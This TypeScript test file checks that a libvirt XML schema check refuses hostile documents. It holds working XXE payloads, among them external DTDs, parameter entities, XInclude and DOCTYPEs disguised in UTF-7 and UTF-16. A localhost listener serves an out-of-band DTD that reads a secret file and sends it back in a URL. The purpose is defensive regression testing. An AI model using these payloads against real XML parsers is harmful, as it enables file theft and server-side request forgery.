/**
 * Issue 13, point 1: a hostile document must never make libvirt's schema check read a file or
 * open a connection. A real listener on 127.0.0.1 and a marker file stand for the attacker's
 * server and the secret; the real check (xmllint with libvirt's schemas) runs on each document
 * when installed. On the code before the fix the listener saw connections (external DTD,
 * parameter entity, entity spelled in UTF-7 or UTF-16) and the marker reached a message.
 */
import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runLibvirtSchemaCheck as runWith, validatorArgs, validatorEnv } from '../../server/src/libvirtxml/schemaCheck';
import { nodeHost } from '../../server/src/host';
import type { RunProgram } from '../../server/src/ports';
import { ran } from '../fixtures/host';
import { findExternalReference } from '../../server/src/libvirtxml/externalRefs';
import { main } from '../../server/src/cli';

const host = nodeHost();
/** the schema check on this host (real xmllint) */
const runLibvirtSchemaCheck = (text: string) => runWith(text, host);

const MARKER = 'bdmlabsecretmarker4711';
const dir = mkdtempSync(join(tmpdir(), 'bdm-lab-xxe-'));
const markerFile = join(dir, 'secret.txt');
writeFileSync(markerFile, `<${MARKER}/>`);

let server: Server;
let port = 0;
const seen: string[] = [];
let connections = 0;

before(async () => {
  server = createServer((req, res) => {
    seen.push(req.url ?? '');
    // What an attacker serves: a DTD that reads the secret and sends it back in a URL.
    res.end(`<!ENTITY % f SYSTEM "file://${markerFile}"><!ENTITY % e "<!ENTITY &#x25; g SYSTEM 'http://127.0.0.1:${port}/leak?%f;'>">%e;%g;`);
  });
  server.on('connection', () => { connections++; });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
});
after(async () => {
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
  rmSync(dir, { recursive: true, force: true });
});

const BODY = '<domain type="kvm"><name>x</name><memory>131072</memory><os><type>hvm</type>BODY</os></domain>\n';
const body = (inner = '') => BODY.replace('BODY', inner);

/** Hostile documents; each is built once the port is known. */
function hostile(): Array<{ id: string; text: string }> {
  const url = (p: string) => `http://127.0.0.1:${port}/${p}`;
  const utf16 = (s: string) => [...s].map((c) => `\u0000${c}`).join('');
  return [
    { id: 'external DTD', text: `<!DOCTYPE domain SYSTEM "${url('ext.dtd')}">\n${body()}` },
    { id: 'parameter entity to the listener', text: `<!DOCTYPE domain [<!ENTITY % d SYSTEM "${url('evil.dtd')}"> %d;]>\n${body()}` },
    { id: 'external general entity to the listener', text: `<!DOCTYPE domain [<!ENTITY x SYSTEM "${url('general')}">]>\n${body('&x;')}` },
    { id: 'file:// entity naming the secret', text: `<!DOCTYPE domain [<!ENTITY x SYSTEM "file://${markerFile}">]>\n${body('&x;')}` },
    { id: 'DOCTYPE after BOM, declaration, comment and PI', text: `\ufeff<?xml version="1.0"?>\n<!-- a comment -->\n<?bdm-lab pi?>\n  <!DOCTYPE domain [<!ENTITY x SYSTEM "file://${markerFile}">]>\n${body('&x;')}` },
    { id: 'lone <disk> with an entity (wrapped)', text: `<!DOCTYPE disk [<!ENTITY % d SYSTEM "${url('disk.dtd')}"> %d;]>\n<disk type="file" device="disk"><source file="/x"/><target dev="vdb" bus="virtio"/></disk>\n` },
    { id: 'XInclude of a URL and of the secret', text: `<domain type="kvm" xmlns:xi="http://www.w3.org/2001/XInclude"><name>x</name><memory>131072</memory><os><type>hvm</type><xi:include href="${url('inc.xml')}"/><xi:include href="file://${markerFile}"/></os></domain>\n` },
    { id: 'XInclude namespace spelled with character references', text: `<domain type="kvm" xmlns:q="http://www.w3.org/2001/X&#73;nclude"><name>x</name><memory>131072</memory><os><type>hvm</type><q:inclusion href="${url('inc2.xml')}"/></os></domain>\n` },
    { id: 'xml-stylesheet PI', text: `<?xml-stylesheet type="text/xsl" href="${url('style.xsl')}"?>\n${body()}` },
    { id: 'DOCTYPE hidden in UTF-7', text: `<?xml version="1.0" encoding="UTF-7"?>\n+ADw-!DOCTYPE domain +AFs-+ADw-!ENTITY +ACU- d SYSTEM +ACI-${url('utf7.dtd')}+ACI-+AD4- +ACU-d+ADs-+AF0-+AD4-\n${body()}` },
    { id: 'DOCTYPE hidden in UTF-16 (NUL characters)', text: utf16(`<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE domain [<!ENTITY % d SYSTEM "${url('utf16.dtd')}"> %d;]>${body()}`) },
  ];
}

const xmllint = spawnSync('sh', ['-c', 'command -v xmllint'], { encoding: 'utf8' }).status === 0;
const schemas = existsSync('/usr/share/libvirt/schemas/domain.rng') || existsSync('/usr/local/share/libvirt/schemas/domain.rng');
const SKIP = !xmllint || !schemas
  ? 'xmllint or libvirt\'s schemas not installed (apt-get install -y --no-install-recommends libvirt-clients libxml2-utils): the real run is skipped, the injected-exec tests below still run'
  : false;

test('the real schema check on hostile documents: no connection, no file content, not run', { skip: SKIP, timeout: 120_000 }, async () => {
  const failures: string[] = [];
  for (const d of hostile()) {
    const before = connections;
    const r = await runLibvirtSchemaCheck(d.text);
    const messages = r.problems.map((p) => p.message).join('\n');
    if (connections !== before) failures.push(`${d.id}: the listener saw ${connections - before} connection(s)`);
    if (messages.includes(MARKER)) failures.push(`${d.id}: the secret file's content reached a message`);
    if (!r.notRun) failures.push(`${d.id}: the validator ran (${messages.slice(0, 200) || 'no problems'})`);
    else assert.equal(r.problems[0]?.severity, 'information', d.id);
  }
  assert.deepEqual(failures, []);
  assert.equal(connections, 0, `requests seen: ${seen.join(', ')}`);
});

test('bdm-lab check on hostile XML files: no connection, no file content, the note in the JSON output', { skip: SKIP, timeout: 120_000 }, async () => {
  const before = connections;
  const docs = hostile().filter((d) => !d.id.includes('UTF-16'));
  const names = docs.map((_, i) => join(dir, `hostile-${i}.xml`));
  docs.forEach((d, i) => writeFileSync(names[i], d.text));
  let out = '';
  await main(['check', '--format', 'json', ...names], { stdout: (s) => { out += s; }, stderr: () => {}, readFile: (p) => readFileSync(p, 'utf8'), cwd: dir });
  assert.ok(!out.includes(MARKER), 'the secret reached the output');
  assert.equal(connections, before, `requests seen: ${seen.join(', ')}`);
  const files = (JSON.parse(out) as { files: Array<{ diagnostics: Array<{ code: string; message: string }> }> }).files;
  for (const [i, f] of files.entries()) {
    // Documents bdm-lab's own parser refuses (UTF-7 is not well-formed as text) never reach the schema check at all.
    const schema = f.diagnostics.filter((d) => d.code === 'LIBVIRT-SCHEMA');
    assert.ok(schema.every((d) => /not run/.test(d.message)), `${docs[i].id}: ${JSON.stringify(schema)}`);
  }
  assert.ok(files.filter((f) => f.diagnostics.some((d) => /schema check not run/.test(d.message))).length >= 5);
});

test('the real schema check still validates a plain document (and reports its errors)', { skip: SKIP, timeout: 60_000 }, async () => {
  const ok = await runLibvirtSchemaCheck(body());
  assert.deepEqual(ok, { available: true, problems: [] });
  const bad = await runLibvirtSchemaCheck(body('<bogus/>'));
  assert.equal(bad.available, true);
  assert.equal(bad.notRun, undefined);
  assert.ok(bad.problems.some((p) => p.severity === 'error' && /bogus/.test(p.message)), JSON.stringify(bad.problems));
});

test('defence in depth: the validator as bdm-lab runs it fetches nothing even if a DOCTYPE got through', { skip: SKIP, timeout: 60_000 }, async () => {
  const schema = ['/usr/share/libvirt/schemas/domain.rng', '/usr/local/share/libvirt/schemas/domain.rng'].find((f) => existsSync(f))!;
  const before = connections;
  const ran: string[] = [];
  for (const d of hostile().filter((h) => /listener|external DTD|UTF-16/.test(h.id))) {
    const file = join(dir, 'direct.xml');
    writeFileSync(file, d.text);
    const r = await host.run('xmllint', validatorArgs(schema, file), { timeoutMs: 30_000, maxOutputBytes: 4 << 20, env: validatorEnv(host.searchPath) });
    ran.push(`${d.id}: exit ${r.exitCode}`);
  }
  assert.equal(ran.length, 4);
  assert.equal(connections, before, `--nonet did not hold: ${seen.join(', ')} (${ran.join('; ')})`);
});

test('documents with a DOCTYPE or other external constructs never reach the validator', async () => {
  const calls: string[][] = [];
  const exec: RunProgram = async (file, args) => { calls.push([file, ...args]); return ran({ code: 0 }); };
  const schemaDir = mkdtempSync(join(dir, 'schemas-'));
  writeFileSync(join(schemaDir, 'domain.rng'), '<grammar/>');
  for (const d of hostile()) {
    const r = await runWith(d.text, { ...host, run: exec }, { schemaDirs: [schemaDir] });
    assert.equal(calls.length, 0, `${d.id}: the validator was called`);
    assert.equal(r.available, true, d.id);
    assert.match(r.notRun ?? '', /not run/, d.id);
    assert.equal(r.problems.length, 1, d.id);
    assert.equal(r.problems[0].id, 'LIBVIRT-SCHEMA');
    const s = r.problems[0].span;
    assert.ok(s.offset >= 0 && s.offset + s.length <= d.text.length, d.id);
  }
  // A plain document does reach it: the guard is not simply "never run".
  await runWith(body(), { ...host, run: exec }, { schemaDirs: [schemaDir] });
  assert.equal(calls.length, 1);
});

test('findExternalReference: what is refused and what is not', () => {
  const refused = [
    '<!DOCTYPE domain>\n<domain/>',
    '<!doctype domain>\n<domain/>',
    '<domain/><!-- <!DOCTYPE in a comment is refused too -->',
    '<domain><![CDATA[<!ENTITY x "y">]]></domain>',
    '<!ELEMENT domain ANY><domain/>',
    '<domain xmlns:xi="http://www.w3.org/2001/XInclude"/>',
    '<domain><x:include href="a"/></domain>',
    '<?xml-stylesheet href="a"?><domain/>',
    '<?xml version="1.0" encoding="UTF-7"?><domain/>',
    "<?xml version='1.0' encoding='ISO-2022-JP'?><domain/>",
    '  <?xml version="1.0" encoding=ebcdic?><domain/>',
    '<domain>\u0000</domain>',
    '<domain>\u001b[2J</domain>',
    '<domain a="&#60;!DOCTYPE"/>',
    '<domain a="&#x3c;!ENTITY"/>',
  ];
  for (const t of refused) assert.ok(findExternalReference(t), JSON.stringify(t));
  const allowed = [
    '<domain type="kvm"/>',
    '<?xml version="1.0" encoding="UTF-8"?>\n<domain/>',
    "<?xml version='1.0' encoding='utf-8' standalone='yes'?><domain/>",
    '\ufeff<?xml version="1.0"?>\r\n<!-- ok -->\n<disk type="file"><source file="/a&amp;b"/></disk>',
    '<domain><description>&lt;!DOCTYPE&gt; &#233; text</description></domain>',
    '<domain><![CDATA[ plain ]]></domain>',
  ];
  for (const t of allowed) assert.equal(findExternalReference(t), null, JSON.stringify(t));
});

test('findExternalReference stays linear on adversarial input', { timeout: 60_000 }, () => {
  // Nested character references are decoded once, not to a fixed point; many '<?xml' do not rescan.
  assert.equal(findExternalReference('&#38;#38;'.repeat(100_000)), null);
  assert.equal(findExternalReference('<?xml '.repeat(200_000)), null);
  assert.equal(findExternalReference(`<domain>${'&#65;'.repeat(200_000)}</domain>`), null);
  assert.ok(findExternalReference(`<domain>${'&#65;'.repeat(200_000)}&#60;!ENTITY</domain>`));
});
